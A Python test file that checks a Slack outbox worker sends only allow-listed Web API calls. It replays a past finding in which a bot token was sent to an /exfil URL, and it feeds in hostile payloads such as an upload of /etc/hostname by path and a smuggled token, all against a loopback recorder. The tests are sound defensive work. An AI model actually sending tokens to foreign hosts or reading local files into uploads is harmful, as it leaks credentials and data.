"""The outbox sends only the Web API calls the product makes (issue 10, finding 1).

A login in the application role once queued `enqueue_outbox('http://127.0.0.1:PORT/exfil', ...)`
and the worker sent the bot token there; it also ran conversations.kick and uploaded a local file
by path. Here the same attempts are made as a real login in dragonfly_app, against a loopback
server that records whatever reaches it, and the worker's own half of the allow-list is checked.
"""

from __future__ import annotations

import base64
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import psycopg
import pytest
from sqlalchemy import text

from dragonfly import db, rpc
from dragonfly.bootstrap import Services
from dragonfly.errors import InvalidInput
from scheduler import outbox
from tests.fake_slack import BOT_TOKEN


class Exfil:
    """A loopback HTTP server that records every request (and its Authorization header)."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str | None]] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_POST(self) -> None:
                seen.append((self.path, self.headers.get("Authorization")))
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(b'{"ok": true}')

            do_GET = do_POST

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/exfil"


@pytest.fixture
def exfil() -> Iterator[Exfil]:
    server = Exfil()
    yield server
    server.server.shutdown()
    server.server.server_close()


@pytest.fixture
def app_login(db_url: str, pg_admin_url: str) -> Iterator[psycopg.Connection]:
    """A real login role that is a member of dragonfly_app, connected to this test's database."""
    role = f"df_outbox_login_{os.getpid()}"
    with psycopg.connect(pg_admin_url, autocommit=True) as admin:
        admin.execute(f"DROP ROLE IF EXISTS {role}")
        admin.execute(f"CREATE ROLE {role} LOGIN IN ROLE dragonfly_app")
    conn = psycopg.connect(db.plain_url(db_url), user=role, autocommit=True)
    try:
        yield conn
    finally:
        conn.close()
        with psycopg.connect(pg_admin_url, autocommit=True) as admin:
            admin.execute(f"DROP OWNED BY {role}")
            admin.execute(f"DROP ROLE IF EXISTS {role}")


def outbox_rows(services: Services) -> int:
    with services.engine.connect() as conn:
        return int(conn.execute(text("SELECT count(*) FROM v_outbox")).scalar_one())


@pytest.mark.parametrize(
    ("method", "payload"),
    [
        ("EXFIL", "{}"),
        ("conversations.kick", '{"channel": "C0OPS", "user": "U0ALICE"}'),
        ("api.test", "{}"),
        ("chat.delete", '{"channel": "C0OPS", "ts": "1.2"}'),
        ("", "{}"),
    ],
)
def test_app_login_cannot_queue_other_methods(app_login, slack_services, exfil, fake, method, payload) -> None:  # type: ignore[no-untyped-def]
    method = exfil.url if method == "EXFIL" else method
    with pytest.raises(psycopg.Error) as info:
        app_login.execute("SELECT enqueue_outbox(%s, %s::jsonb, 'k')", (method, payload))
    assert info.value.sqlstate == "DF008"
    assert "is not a Slack Web API call the outbox sends" in str(info.value)
    assert outbox_rows(slack_services) == 0
    assert outbox.deliver_due(slack_services) == 0
    assert exfil.seen == [] and fake.calls == []


@pytest.mark.parametrize(
    ("method", "payload", "says"),
    [
        # an upload by path: the worker must never read a file off its own disk
        ("files_upload_v2", {"channel": "C0EXEC", "filename": "h", "file": "/etc/hostname"}, "does not take file"),
        ("files_upload_v2", {"channel": "C0EXEC", "filename": "h"}, "needs content_b64"),
        ("chat.postMessage", {"channel": "C0OPS", "text": "hi", "token": "xoxb-other"}, "does not take token"),
        ("chat.postMessage", {"channel": "C0OPS"}, "needs text"),
        ("chat.postMessage", {"channel": "", "text": "hi"}, "needs channel"),
        ("views.publish", {"user_id": "U0ALICE"}, "needs view"),
    ],
)
def test_payloads_outside_a_methods_arguments_are_refused(slack_services, method, payload, says) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(InvalidInput) as info, rpc.transaction(slack_services.engine) as conn:
        rpc.enqueue_outbox(conn, method=method, payload=payload, dedupe_key="k")
    assert says in str(info.value)
    assert outbox_rows(slack_services) == 0


def test_app_login_may_queue_what_the_product_sends(app_login, slack_services, fake) -> None:  # type: ignore[no-untyped-def]
    app_login.execute(
        "SELECT enqueue_outbox('chat.postMessage', %s::jsonb, 'ok:1')",
        ('{"channel": "C0OPS", "text": "hello", "thread_ts": "1.2"}',),
    )
    assert outbox.deliver_due(slack_services) == 1
    [call] = fake.calls_to("chat.postMessage")
    assert call.params["channel"] == "C0OPS" and call.headers["Authorization"] == f"Bearer {BOT_TOKEN}"


def test_the_worker_sends_only_its_own_methods(slack_services, fake, exfil) -> None:  # type: ignore[no-untyped-def]
    """The worker's half: an unknown method (an absolute URL, another Web API method) is never
    sent anywhere, whatever reached the row."""
    client = outbox.client_for(slack_services)
    for method in (exfil.url, "conversations.kick", "files.upload"):
        with pytest.raises(outbox.MethodNotAllowed):
            outbox.send(client, method, {"channel": "C0OPS", "user": "U0ALICE"})
        assert outbox.classify(outbox.MethodNotAllowed("x"), 1).status == "failed"
    assert exfil.seen == [] and fake.calls == []


def test_worker_handlers_equal_the_sql_allow_list(engine) -> None:  # type: ignore[no-untyped-def]
    with engine.connect() as conn:
        listed = {r[0] for r in conn.execute(text("SELECT method FROM outbox_methods"))}
    assert listed == set(outbox.HANDLERS)


def test_upload_to_a_channel_name_goes_to_its_id(slack_services, fake) -> None:  # type: ignore[no-untyped-def]
    """files.completeUploadExternal takes channel ids only (Slack refuses "#name"): the worker
    resolves the name once with conversations.list."""
    content = base64.b64encode(b"\x89PNG chart").decode()
    for key in ("c:1", "c:2"):
        with rpc.transaction(slack_services.engine) as conn:
            rpc.enqueue_outbox(
                conn,
                method="files_upload_v2",
                payload={"channel": "#enforcement-exec", "filename": "c.png", "content_b64": content},
                dedupe_key=key,
            )
    assert outbox.deliver_due(slack_services) == 2
    completes = fake.calls_to("files.completeUploadExternal")
    assert [c.params["channel_id"] for c in completes] == ["C0EXEC", "C0EXEC"]
    assert len(fake.calls_to("conversations.list")) == 1  # looked up once per process


def test_upload_to_an_unknown_channel_fails_with_a_sentence(slack_services, fake) -> None:  # type: ignore[no-untyped-def]
    with rpc.transaction(slack_services.engine) as conn:
        oid = rpc.enqueue_outbox(
            conn,
            method="files_upload_v2",
            payload={"channel": "#nowhere", "filename": "c.png", "content_b64": "AA=="},
            dedupe_key="c:x",
        )
    assert outbox.deliver_due(slack_services) == 0
    with slack_services.engine.connect() as conn:
        r = conn.execute(text("SELECT status, last_error FROM v_outbox WHERE id = :i"), {"i": oid}).one()
    assert r.status == "failed"
    assert "channel #nowhere not found: invite @Dragonfly" in r.last_error
    assert fake.calls_to("files.completeUploadExternal") == []
